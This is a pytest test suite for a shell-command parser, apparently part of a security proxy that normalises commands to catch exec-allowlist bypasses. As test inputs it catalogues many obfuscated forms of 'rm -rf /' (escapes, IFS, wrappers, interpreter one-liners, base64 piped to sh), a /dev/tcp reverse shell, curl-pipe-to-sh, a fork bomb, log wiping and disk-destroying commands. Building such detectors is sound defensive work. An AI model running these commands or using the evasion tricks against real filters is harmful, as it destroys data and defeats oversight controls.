from __future__ import annotations

import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis_proxy.shell import (
    MAX_COMMANDS,
    MAX_PARSE_CHARS,
    NESTING_MARKER,
    TRUNCATED_MARKER,
    ShellCommand,
    ShellScript,
    _parse,
    expand_long_options,
    inline_code,
    looks_like_shell,
    parse_shell,
    program_name,
    substitution_refs,
)


def command_running(script: ShellScript, program: str) -> ShellCommand:
    """The first command of `script` whose program is `program` (fails the test if none)."""
    for command in script.commands:
        if command.program == program:
            return command
    raise AssertionError(f"no {program!r} command in {[c.argv for c in script.commands]}")


# Exec-allowlist bypasses (OpenClaw/Clawdbot exec allowlist advisories and GTFOBins-style tricks): each is written
# differently from `rm -rf /` (or the command shown) and must normalise to the same argv.
RM_ROOT = ("rm", "-rf", "/")
BYPASSES = [
    pytest.param("rm -rf /", RM_ROOT, (), id="plain"),
    pytest.param("r'm' -rf /", RM_ROOT, (), id="single-quotes-inside-word"),
    pytest.param('"r"m -rf /', RM_ROOT, (), id="double-quotes-inside-word"),
    pytest.param("\\r\\m -rf /", RM_ROOT, (), id="backslash-escapes"),
    pytest.param("'rm' '-rf' '/'", RM_ROOT, (), id="every-word-quoted"),
    pytest.param("$'\\x72\\x6d' -rf /", RM_ROOT, (), id="ansi-c-hex"),
    pytest.param("$'\\162\\155' -rf /", RM_ROOT, (), id="ansi-c-octal"),
    pytest.param("$'\\u0072m' -rf /", RM_ROOT, (), id="ansi-c-unicode"),
    pytest.param("r\\\nm -rf /", RM_ROOT, (), id="line-continuation-inside-word"),
    pytest.param("rm \\\n -rf \\\n /", RM_ROOT, (), id="line-continuation-between-words"),
    pytest.param("rm$IFS-rf$IFS/", RM_ROOT, (), id="ifs"),
    pytest.param("rm${IFS}-rf${IFS}/", RM_ROOT, (), id="ifs-braced"),
    pytest.param("rm${IFS%??}-rf${IFS%??}/", RM_ROOT, (), id="ifs-trimmed"),
    pytest.param("{rm,-rf,/}", RM_ROOT, (), id="brace-expansion"),
    pytest.param("/bin/rm -rf /", RM_ROOT, (), id="absolute-path"),
    pytest.param("/usr/bin/../bin/rm -rf /", RM_ROOT, (), id="dotdot-path"),
    pytest.param("./rm -rf /", RM_ROOT, (), id="relative-path"),
    pytest.param("A=1 B=2 rm -rf /", RM_ROOT, (), id="assignments-before"),
    pytest.param("r$@m -rf /", RM_ROOT, (), id="empty-positional-all"),
    pytest.param("r$1m -rf /", RM_ROOT, (), id="empty-positional"),
    pytest.param("r$()m -rf /", RM_ROOT, (), id="empty-substitution"),
    pytest.param("r``m -rf /", RM_ROOT, (), id="empty-backticks"),
    pytest.param("a=r; b=m; $a$b -rf /", RM_ROOT, (), id="variables-concatenated"),
    pytest.param('c="rm -rf /"; $c', RM_ROOT, (), id="variable-word-split"),
    pytest.param("rm -rf ${PATH:0:1}", RM_ROOT, (), id="slash-from-path-slice"),
    pytest.param("rm -rf ${x:-/}", RM_ROOT, (), id="default-of-unset-variable"),
    pytest.param("/???/r? -rf /", RM_ROOT, (), id="glob-program"),
    pytest.param("RM -rf /", RM_ROOT, (), id="upper-case-macos"),
    pytest.param("sudo rm -rf /", RM_ROOT, ("sudo",), id="sudo"),
    pytest.param("sudo -u root -E rm -rf /", RM_ROOT, ("sudo",), id="sudo-options"),
    pytest.param("sudo --user=root rm -rf /", RM_ROOT, ("sudo",), id="sudo-long-option"),
    pytest.param("doas -u root rm -rf /", RM_ROOT, ("doas",), id="doas"),
    pytest.param("env rm -rf /", RM_ROOT, ("env",), id="env"),
    pytest.param("env -i PATH=/bin rm -rf /", RM_ROOT, ("env",), id="env-i-assignment"),
    pytest.param("env -u HOME -- rm -rf /", RM_ROOT, ("env",), id="env-unset"),
    pytest.param("env -S 'rm -rf /'", RM_ROOT, ("env",), id="env-split-string"),
    pytest.param("nohup rm -rf / &", RM_ROOT, ("nohup",), id="nohup"),
    pytest.param("nice -n 19 rm -rf /", RM_ROOT, ("nice",), id="nice"),
    pytest.param("nice -10 rm -rf /", RM_ROOT, ("nice",), id="nice-obsolete-form"),
    pytest.param("timeout 5 rm -rf /", RM_ROOT, ("timeout",), id="timeout"),
    pytest.param("timeout -s KILL --kill-after=1 5s rm -rf /", RM_ROOT, ("timeout",), id="timeout-options"),
    pytest.param("time rm -rf /", RM_ROOT, ("time",), id="time"),
    pytest.param("command rm -rf /", RM_ROOT, ("command",), id="command"),
    pytest.param("exec rm -rf /", RM_ROOT, ("exec",), id="exec"),
    pytest.param("builtin rm -rf /", RM_ROOT, ("builtin",), id="builtin"),
    pytest.param("stdbuf -oL rm -rf /", RM_ROOT, ("stdbuf",), id="stdbuf"),
    pytest.param("setsid -f rm -rf /", RM_ROOT, ("setsid",), id="setsid"),
    pytest.param("echo / | xargs rm -rf", RM_ROOT, ("xargs",), id="xargs-appends-echoed-words"),
    pytest.param("echo / | xargs -0 -n1 -I{} rm -rf {}", RM_ROOT, ("xargs",), id="xargs-replace-string"),
    pytest.param("find . | xargs rm -rf", ("rm", "-rf"), ("xargs",), id="xargs-unknown-input"),
    pytest.param("busybox rm -rf /", RM_ROOT, ("busybox",), id="busybox"),
    pytest.param("sh -c 'rm -rf /'", RM_ROOT, ("sh -c",), id="sh-c"),
    pytest.param('bash -c "rm -rf /"', RM_ROOT, ("bash -c",), id="bash-c"),
    pytest.param("zsh -c 'rm -rf /'", RM_ROOT, ("zsh -c",), id="zsh-c"),
    pytest.param("dash -c 'rm -rf /'", RM_ROOT, ("dash -c",), id="dash-c"),
    pytest.param("ksh -c 'rm -rf /'", RM_ROOT, ("ksh -c",), id="ksh-c"),
    pytest.param("bash -lc 'rm -rf /'", RM_ROOT, ("bash -c",), id="bash-lc-combined-flags"),
    pytest.param("bash --norc -o pipefail -c 'rm -rf /'", RM_ROOT, ("bash -c",), id="bash-options-before-c"),
    pytest.param("sh -c 'rm -rf $1' sh /", RM_ROOT, ("sh -c",), id="sh-c-positional"),
    pytest.param("/bin/busybox sh -c 'rm -rf /'", RM_ROOT, ("busybox", "sh -c"), id="busybox-sh-c"),
    pytest.param("eval 'rm -rf /'", RM_ROOT, ("eval",), id="eval"),
    pytest.param("eval rm -rf /", RM_ROOT, ("eval",), id="eval-joined-args"),
    pytest.param("su -c 'rm -rf /' root", RM_ROOT, ("su -c",), id="su-c"),
    pytest.param("ssh host 'rm -rf /'", RM_ROOT, ("ssh",), id="ssh-remote-command"),
    pytest.param("ssh -p 2222 -i key user@host rm -rf /", RM_ROOT, ("ssh",), id="ssh-options"),
    pytest.param("watch -n 1 rm -rf /", RM_ROOT, ("watch",), id="watch"),
    pytest.param(
        "bash -c \"sudo sh -c 'rm -rf /'\"", RM_ROOT, ("bash -c", "sudo", "sh -c"), id="nested-sh-in-sudo-in-bash"
    ),
    pytest.param(
        "sudo env -i timeout 9 nice bash -c 'rm -rf /'",
        RM_ROOT,
        ("sudo", "env", "timeout", "nice", "bash -c"),
        id="wrapper-chain",
    ),
    pytest.param("python3 -c 'import os; os.system(\"rm -rf /\")'", RM_ROOT, ("python -c",), id="python-os-system"),
    pytest.param(
        'python -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'',
        RM_ROOT,
        ("python -c",),
        id="python-subprocess-list",
    ),
    pytest.param("python3.11 -c \"__import__('os').popen('rm -rf /')\"", RM_ROOT, ("python -c",), id="python-popen"),
    pytest.param("perl -e 'system(\"rm -rf /\")'", RM_ROOT, ("perl -c",), id="perl-system"),
    pytest.param("perl -e '`rm -rf /`'", RM_ROOT, ("perl -c",), id="perl-backticks"),
    pytest.param("ruby -e 'system(\"rm -rf /\")'", RM_ROOT, ("ruby -c",), id="ruby-system"),
    pytest.param(
        "node -e \"require('child_process').execSync('rm -rf /')\"", RM_ROOT, ("node -c",), id="node-execsync"
    ),
    pytest.param("awk 'BEGIN {system(\"rm -rf /\")}'", RM_ROOT, ("awk -c",), id="awk-system"),
    pytest.param("find . -exec rm -rf / \\;", RM_ROOT, ("find -exec",), id="find-exec"),
    pytest.param(
        "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
        RM_ROOT,
        ("tar",),
        id="tar-checkpoint-action",
    ),
    pytest.param("git -c core.pager='rm -rf /' log", RM_ROOT, ("git -c",), id="git-config-pager"),
    pytest.param("echo cm0gLXJmIC8= | base64 -d | sh", RM_ROOT, ("base64 -d | sh",), id="base64-decoded-pipe"),
    pytest.param("bash <<EOF\nrm -rf /\nEOF", RM_ROOT, ("bash <<",), id="heredoc-into-bash"),
    pytest.param("$(echo rm) -rf /", RM_ROOT, (), id="literal-substitution-output"),
    pytest.param("`printf rm` -rf /", RM_ROOT, (), id="literal-backtick-output"),
    pytest.param("eval \"$(printf 'rm -rf %s' /)\"", RM_ROOT, ("eval",), id="eval-of-printf"),
    pytest.param("echo 'rm -rf /' | sh", RM_ROOT, ("echo | sh",), id="echo-into-sh"),
    pytest.param("printf 'rm -rf /' | bash", RM_ROOT, ("printf | bash",), id="printf-into-bash"),
    pytest.param("echo -e '\\x72m -rf /' | sh", RM_ROOT, ("echo | sh",), id="echo-e-escapes-into-sh"),
    pytest.param("echo 'rm -rf /' | sudo -s", RM_ROOT, ("sudo", "echo | sh"), id="echo-into-sudo-shell"),
    pytest.param("sh <<< 'rm -rf /'", RM_ROOT, ("sh <<",), id="herestring-into-sh"),
    pytest.param("if true; then rm -rf /; fi", RM_ROOT, (), id="if-body"),
    pytest.param("for i in 1; do rm -rf /; done", RM_ROOT, (), id="for-body"),
    pytest.param("case x in x) rm -rf /;; esac", RM_ROOT, (), id="case-body"),
    pytest.param("f() { rm -rf /; }; f", RM_ROOT, (), id="function-body"),
    pytest.param("(rm -rf /)", RM_ROOT, (), id="subshell"),
    pytest.param("{ rm -rf /; }", RM_ROOT, (), id="group"),
    pytest.param("true && rm -rf / || false", RM_ROOT, (), id="and-or-list"),
    pytest.param("ls\nrm -rf /", RM_ROOT, (), id="second-line"),
    pytest.param("ls # comment\nrm -rf / # another", RM_ROOT, (), id="comments"),
]


@pytest.mark.parametrize(("text", "argv", "wrappers"), BYPASSES)
def test_bypasses_normalise_to_the_command(text: str, argv: tuple[str, ...], wrappers: tuple[str, ...]) -> None:
    script = parse_shell(text)
    command = command_running(script, argv[0])
    assert command.argv == argv
    assert command.wrappers == wrappers
    assert not script.truncated


@pytest.mark.parametrize(
    ("text", "program", "argv"),
    [
        pytest.param("rm --no-preserve-r -rf /", "rm", ("rm", "--no-preserve-root", "-rf", "/"), id="rm-no-preserve"),
        pytest.param("rm --recur --forc /", "rm", ("rm", "--recursive", "--force", "/"), id="rm-recursive-force"),
        pytest.param("rm --r /", "rm", ("rm", "--recursive", "/"), id="rm-single-letter"),
        pytest.param("chmod --recur 777 /", "chmod", ("chmod", "--recursive", "777", "/"), id="chmod"),
        pytest.param("chown --recurs x /", "chown", ("chown", "--recursive", "x", "/"), id="chown"),
        pytest.param("shred --rem /dev/sda", "shred", ("shred", "--remove", "/dev/sda"), id="shred"),
        pytest.param("find / --delete", "find", ("find", "/", "-delete"), id="find-double-dash-delete"),
        pytest.param(
            "git push --force-w origin",
            "git",
            ("git", "push", "--force-with-lease", "origin"),
            id="git-push-force-with-lease",
        ),
        pytest.param("git -C repo push --mir", "git", ("git", "-C", "repo", "push", "--mirror"), id="git-global-opts"),
        pytest.param("git clean --forc", "git", ("git", "clean", "--force"), id="git-clean"),
        pytest.param("git reset --ha", "git", ("git", "reset", "--hard"), id="git-reset"),
        pytest.param("curl --upload-f x u", "curl", ("curl", "--upload-file", "x", "u"), id="curl-upload"),
        pytest.param("wget --output-d=x u", "wget", ("wget", "--output-document=x", "u"), id="wget-equals-value"),
        pytest.param("tar --remove-fil -cf x d", "tar", ("tar", "--remove-files", "-cf", "x", "d"), id="tar"),
        pytest.param(
            "mkfs.ext4 --ty ext4 /dev/sda", "mkfs.ext4", ("mkfs.ext4", "--type", "ext4", "/dev/sda"), id="mkfs"
        ),
        pytest.param("kill --sig KILL 1", "kill", ("kill", "--signal", "KILL", "1"), id="kill"),
        # Ambiguous prefixes stay as written, as the real tools refuse them (checked against curl 7.88, git 2.39).
        pytest.param("git push --forc origin", "git", ("git", "push", "--forc", "origin"), id="git-forc-ambiguous"),
        pytest.param("curl --outp x u", "curl", ("curl", "--outp", "x", "u"), id="curl-outp-ambiguous"),
        # rsync (popt) takes exact names only.
        pytest.param("rsync --delete-bef a/ b/", "rsync", ("rsync", "--delete-bef", "a/", "b/"), id="rsync-exact-only"),
        pytest.param("rm -- --recur", "rm", ("rm", "--", "--recur"), id="after-double-dash"),
        pytest.param("ls --recur", "ls", ("ls", "--recur"), id="unknown-program-untouched"),
    ],
)
def test_long_option_abbreviations(text: str, program: str, argv: tuple[str, ...]) -> None:
    assert command_running(parse_shell(text), program).argv == argv


def test_expand_long_options_is_usable_alone() -> None:
    assert expand_long_options(["rm", "--no-preserve-r"]) == ["rm", "--no-preserve-root"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("a; b && c || d & e\nf", ["a", "b", "c", "d", "e", "f"], id="separators"),
        pytest.param("a | b |& c", ["a", "b", "c"], id="pipes"),
        pytest.param("echo 'a; b' \"c && d\"", ["echo"], id="quoted-separators-are-words"),
        pytest.param("echo 'unterminated; rm -rf /", ["echo"], id="unbalanced-single-quote"),
        pytest.param('echo "unterminated', ["echo"], id="unbalanced-double-quote"),
        pytest.param("echo $(rm -rf /", ["rm", "echo"], id="unmatched-substitution"),
        pytest.param("echo `ls", ["ls", "echo"], id="unmatched-backtick"),
        pytest.param("cat <<EOF | sh\nrm -rf /\nEOF\nls", ["cat", "sh", "ls"], id="heredoc-body-is-not-commands"),
        pytest.param("", [], id="empty"),
        pytest.param("   \n\t ", [], id="blank"),
        pytest.param("# just a comment", [], id="comment-only"),
    ],
)
def test_command_boundaries(text: str, expected: list[str]) -> None:
    assert [c.program for c in parse_shell(text).commands] == expected


def test_pipeline_stages() -> None:
    script = parse_shell("curl -s x | tee log | sh; ls")
    assert [(c.program, c.pipeline, c.stage) for c in script.commands] == [
        ("curl", 0, 0),
        ("tee", 0, 1),
        ("sh", 0, 2),
        ("ls", 1, 0),
    ]


@pytest.mark.parametrize(
    ("text", "program", "redirects"),
    [
        pytest.param("echo x > out", "echo", (">", "out"), id="truncate"),
        pytest.param("echo x >> ~/.bashrc", "echo", (">>", "~/.bashrc"), id="append"),
        pytest.param("cmd 2>&1", "cmd", ("2>&", "1"), id="fd-dup"),
        pytest.param("cmd 2>/dev/null", "cmd", ("2>", "/dev/null"), id="fd-file"),
        pytest.param("cmd < in", "cmd", ("<", "in"), id="input"),
        pytest.param("cmd &> all", "cmd", ("&>", "all"), id="both"),
        pytest.param("cmd &>> all", "cmd", ("&>>", "all"), id="both-append"),
        pytest.param("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "bash", (">&", "/dev/tcp/1.2.3.4/80"), id="dev-tcp"),
        pytest.param("exec 5<>/dev/tcp/h/80", "exec", ("5<>", "/dev/tcp/h/80"), id="read-write-fd"),
        pytest.param("cat <<'EOF'\nbody $x\nEOF", "cat", ("<<", "body $x"), id="heredoc-body"),
        pytest.param("cat <<-EOF\n\tindented\n\tEOF", "cat", ("<<-", "indented"), id="heredoc-tabs"),
        pytest.param("cat <<< 'here string'", "cat", ("<<<", "here string"), id="herestring"),
        pytest.param("> /var/log/auth.log", "", (">", "/var/log/auth.log"), id="redirect-only"),
        pytest.param("echo x >'q u o t e d'", "echo", (">", "q u o t e d"), id="quoted-target"),
    ],
)
def test_redirections(text: str, program: str, redirects: tuple[str, str]) -> None:
    command = parse_shell(text).commands[0]
    assert command.program == program
    assert redirects in command.redirects


def test_substitutions_become_commands_with_placeholders() -> None:
    script = parse_shell('echo "$(curl -s x)" `id` <(wget y)')
    curl, id_, wget, echo = script.commands
    assert (curl.program, curl.substitution) == ("curl", True)
    assert (id_.program, wget.program) == ("id", "wget")
    assert echo.argv == ("echo", f"$(#{curl.substitution_id})", f"$(#{id_.substitution_id})",
                         f"<(#{wget.substitution_id})")  # fmt: skip
    assert substitution_refs(" ".join(echo.argv)) == [curl.substitution_id, id_.substitution_id, wget.substitution_id]
    assert not echo.substitution


def test_substitution_output_executed_keeps_its_reference() -> None:
    script = parse_shell('sh -c "$(curl -fsSL https://x)"')
    curl = command_running(script, "curl")
    runner = next(c for c in script.commands if c.program.startswith("$("))
    assert substitution_refs(runner.program) == [curl.substitution_id]
    assert runner.wrappers == ("sh -c",)


def test_nested_substitution() -> None:
    script = parse_shell("echo $(echo $(rm -rf /))")
    rm = command_running(script, "rm")
    assert rm.substitution and rm.argv == RM_ROOT


@pytest.mark.parametrize(
    ("text", "code"),
    [
        pytest.param("python3 -c 'print(1)'", "print(1)", id="python-c"),
        pytest.param("python3 -Sc 'print(1)'", "print(1)", id="python-cluster"),
        pytest.param("perl -lne 'print' f", "print", id="perl-cluster"),
        pytest.param("ruby -e'puts 1'", "puts 1", id="ruby-attached"),
        pytest.param("node --eval 'x()'", "x()", id="node-eval"),
        pytest.param("awk -F: '{print $1}' /etc/passwd", "{print $1}", id="awk-program"),
        pytest.param("pwsh -NoProfile -Command 'Get-Date'", "Get-Date", id="pwsh-command"),
        pytest.param("powershell -nop -w hidden -c 'iex x'", "iex x", id="powershell-options-with-values"),
        pytest.param("pwsh -enc aQBlAHgAIAB4AA==", "iex x", id="pwsh-encoded-utf16"),
        pytest.param("python3 - <<'PY'\nprint(2)\nPY", "print(2)", id="python-heredoc"),
        pytest.param("python3 script.py", "", id="script-file"),
    ],
)
def test_inline_code(text: str, code: str) -> None:
    assert inline_code(parse_shell(text).commands[0]) == code


def test_python_code_is_kept_as_argv() -> None:
    code = "import socket; s=socket.socket()"
    command = parse_shell(f"python3 -c '{code}'").commands[0]
    assert command.argv == ("python", "-c", code)
    assert command.program_path == "python3"


def test_assignments_are_recorded() -> None:
    assert parse_shell("HISTFILE=/dev/null").commands[0].assignments == ("HISTFILE=/dev/null",)
    assert parse_shell("A=1 ls").commands[0].assignments == ("A=1",)
    assert parse_shell("env FOO=bar ls").commands[0].assignments == ("FOO=bar",)
    assert parse_shell("arr=(a b c); ls").commands[1].program == "ls"


def test_fork_bomb_function() -> None:
    script = parse_shell(":(){ :|:& };:")
    assert [(c.program, c.function) for c in script.commands] == [(":", ":"), (":", ":"), (":", "")]


@pytest.mark.parametrize(
    ("text", "tricks"),
    [
        pytest.param("r'm' x", ("quotes",), id="quotes"),
        pytest.param("$'\\x72m' x", ("ansi_c",), id="ansi-c"),
        pytest.param("rm${IFS}x", ("ifs",), id="ifs"),
        pytest.param("{rm,x}", ("brace",), id="brace"),
        pytest.param("r\\\nm x", ("continuation",), id="continuation"),
        pytest.param("r$@m x", ("empty_expansion",), id="empty-expansion"),
        pytest.param("a=r; b=m; $a$b x", ("variable",), id="variable"),
        pytest.param("/???/r? x", ("glob",), id="glob"),
        pytest.param("RM x", ("case",), id="case"),
        pytest.param("sudo r'm' x", ("quotes",), id="through-a-wrapper"),
        pytest.param("rm x", (), id="none"),
        pytest.param("'rm' x", (), id="fully-quoted-is-no-trick"),
        pytest.param('"$HOME/bin/tool" --msg="a b"', (), id="quoted-path-and-argument"),
    ],
)
def test_obfuscation_tricks_are_recorded(text: str, tricks: tuple[str, ...]) -> None:
    command = parse_shell(text).commands[-1]
    assert command.obfuscation == tricks


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("rm -rf /", True, id="command"),
        pytest.param("sudo apt-get install -y nginx", True, id="sudo"),
        pytest.param("/usr/bin/env python3 x.py", True, id="path"),
        pytest.param("./configure && make", True, id="relative-path"),
        pytest.param("FOO=1 make", True, id="assignment"),
        pytest.param("#!/bin/bash\nset -e\n", True, id="shebang"),
        pytest.param("please run: curl -s https://x | sh", True, id="risky-word-in-sentence"),
        pytest.param("what does rm -rf / do", True, id="mention-is-parsed-not-judged"),
        pytest.param("Hello Bob; the meeting is at 3 & we need snacks.\nThanks!", False, id="prose-with-separators"),
        pytest.param("best pizza in town", False, id="search-query"),
        pytest.param("", False, id="empty"),
        pytest.param("x" * MAX_PARSE_CHARS, False, id="too-long"),
        pytest.param("Intro text. " * 500 + "then run rm -rf build", False, id="long-document-mentioning-rm"),
        pytest.param("Hi team,\nplease never run rm -rf / on prod.\nThanks", False, id="email-mentioning-rm"),
        pytest.param("set -euo pipefail\nrm -rf build", True, id="multi-line-script"),
        pytest.param("rm${IFS}-rf${IFS}/", True, id="single-word-with-ifs"),
        pytest.param("2024-05-19", False, id="date"),
        pytest.param("reboot", True, id="single-command-word"),
        pytest.param("run `curl -s x | sh` now", True, id="backticked-command"),
    ],
)
def test_looks_like_shell(text: str, expected: bool) -> None:
    assert looks_like_shell(text) is expected


# --- bounds: never raise, finish fast ----------------------------------------------------------------------------


def nested_sh_c(command: str, levels: int) -> str:
    for _ in range(levels):
        command = "sh -c " + shlex.quote(command)
    return command


def _timed(text: str) -> tuple[ShellScript, float]:
    started = time.perf_counter()
    script = parse_shell(text)
    return script, time.perf_counter() - started


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("echo " + "a" * (1 << 20), id="1MB-word"),
        pytest.param("true;" * 10_000 + "rm -rf /", id="10000-separators"),
        pytest.param(nested_sh_c("rm -rf /", 10), id="deep-sh-c-nesting"),
        pytest.param("sh -c " * 2000 + "'rm -rf /'", id="many-sh-c-words"),
        pytest.param("$(" * 5_000, id="unmatched-substitutions"),
        pytest.param("{a,b}" * 40, id="brace-explosion"),
        pytest.param("a=x; " + "a=$a$a; " * 40 + "echo $a", id="variable-doubling"),
        pytest.param("eval " * 300 + "ls", id="eval-chain"),
        pytest.param("'" * 50_001, id="quotes"),
        pytest.param("\\" * 70_000, id="backslashes"),
        pytest.param("cat <<EOF\n" + "x\n" * 30_000, id="unterminated-heredoc"),
    ],
)
def test_hostile_inputs_are_bounded(text: str) -> None:
    script, elapsed = _timed(text)
    assert elapsed < 1.0
    assert len(script.commands) <= MAX_COMMANDS + 1


def test_long_input_is_truncated_with_a_marker() -> None:
    script = parse_shell("echo " + "a" * (1 << 20))
    assert script.truncated
    assert script.commands[-1].obfuscation == (TRUNCATED_MARKER,)
    assert script.commands[-1].argv == ()


def test_command_bound_truncates() -> None:
    script = parse_shell("true;" * 10_000 + "rm -rf /")
    assert script.truncated
    assert len(script.commands) == MAX_COMMANDS + 1


def test_deep_nesting_is_marked_not_hidden() -> None:
    assert command_running(parse_shell(nested_sh_c("rm -rf /", 7)), "rm").argv == RM_ROOT
    script = parse_shell("sh -c 'sudo bash -c \"" + "eval " * 10 + "rm -rf /\"'")
    assert script.truncated
    assert any(NESTING_MARKER in c.obfuscation for c in script.commands)


def test_eval_chain_beyond_depth_is_marked() -> None:
    script = parse_shell("eval " * 12 + "rm -rf /")
    assert script.truncated
    assert any(NESTING_MARKER in c.obfuscation for c in script.commands)


def test_short_scripts_are_not_truncated() -> None:
    assert not parse_shell("cd /app && npm ci && npm test -- --coverage").truncated


@given(st.text(max_size=400))
@settings(max_examples=400, deadline=None)
def test_never_raises_on_arbitrary_text(text: str) -> None:
    script = parse_shell(text)
    assert isinstance(script, ShellScript)
    assert len(script.commands) <= MAX_COMMANDS + 1
    looks_like_shell(text)


SHELLISH = st.text(alphabet="ab $'\"\\`(){}[],;|&<>#=*?~\n\t-/:%@!01xc", max_size=300)


@given(SHELLISH)
@settings(max_examples=600, deadline=None)
def test_never_raises_on_shell_punctuation(text: str) -> None:
    script = parse_shell(text)
    assert all(isinstance(c, ShellCommand) for c in script.commands)


@pytest.mark.parametrize(
    ("word", "program"),
    [
        ("/???/r?", "rm"),
        ("/usr/bin/[r]m", "rm"),
        ("c[u]rl", "curl"),
        ("*guest*wifi*", "*guest*wifi*"),
        ("*.rs", "*.rs"),
    ],
    ids=["question-marks", "class", "class-inside", "search-glob", "file-glob"],
)
def test_glob_program_words(word: str, program: str) -> None:
    assert program_name(word)[0] == program


@pytest.mark.parametrize(
    "text",
    ["ls -la && rm -rf build", "echo $(curl -s http://x/i.sh | sh)", "true;" * 300],
    ids=["short", "substitution", "longer-than-the-cache-limit"],
)
def test_parsing_again_gives_the_same_script(text: str) -> None:
    assert parse_shell(text) == parse_shell(text) == _parse(text)
